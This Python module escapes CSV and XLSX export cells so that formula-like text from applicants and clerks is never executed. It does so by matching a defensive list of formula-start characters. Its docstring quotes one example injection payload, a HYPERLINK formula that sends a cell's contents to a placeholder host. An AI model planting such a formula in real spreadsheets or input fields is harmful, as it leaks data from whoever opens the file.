"""Spreadsheet exports whose cells never run: the one place CSV and XLSX cells are written.

Names, employer names and reasons come from applicants and clerks. A cell that starts like a
formula (`=HYPERLINK("http://x/?q="&C2,"y")`) is executed by Excel or LibreOffice on the
desk of whoever opens the export (OWASP "CSV Injection", CWE-1236). So every exporter
writes its rows through `csv_row` / `xlsx_row`:

- CSV: such a text cell gets a leading `'`, which the spreadsheet shows as text.
- XLSX: such a cell is a text cell (`t="inlineStr"`, never `<f>`) with Excel's quotePrefix
  style, so even editing the cell in Excel keeps it text.

Numbers stay numbers: `-7.00` (a deduction) is not text that looks like a formula, and
neither an int/float/Decimal nor a numeric string is touched.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

# OWASP's list (= + - @ tab CR) and ASVS 1.2.10's NUL.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


def is_formula_like(value: Any) -> bool:
    """Text a spreadsheet would read as a formula (a plain number like -7.00 is not)."""
    return (
        isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)
    )


def csv_cell(value: Any) -> Any:
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in values]


def csv_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 with a BOM (Excel opens UTF-8 CSV correctly only with it), CRLF line ends."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(csv_row(header))
    for row in rows:
        writer.writerow(csv_row(row))
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_cell(sheet: Any, value: Any, *, bold: bool = False) -> Any:
    if not (is_formula_like(value) or bold):
        return value  # openpyxl writes plain text and numbers with their own types
    cell = WriteOnlyCell(sheet, value=value)
    if is_formula_like(value):
        # openpyxl types any text starting with "=" as a formula; say it is text.
        cell.data_type = "s"
        cell.quotePrefix = True
    if bold:
        cell.font = Font(bold=True)
    return cell


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """One row for a write-only sheet's `append`."""
    return [xlsx_cell(sheet, value) for value in values]


def xlsx_bytes(
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    sheet_title: str = "Sheet1",
    title: str = "",
) -> bytes:
    """A one-sheet workbook: an optional title line, the bold header, the rows."""
    workbook = Workbook(write_only=True)
    if title:
        workbook.properties.title = title
    sheet = workbook.create_sheet(sheet_title)
    if title:
        sheet.append(xlsx_row(sheet, [title]))
    sheet.append([xlsx_cell(sheet, value, bold=True) for value in header])
    for row in rows:
        sheet.append(xlsx_row(sheet, row))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
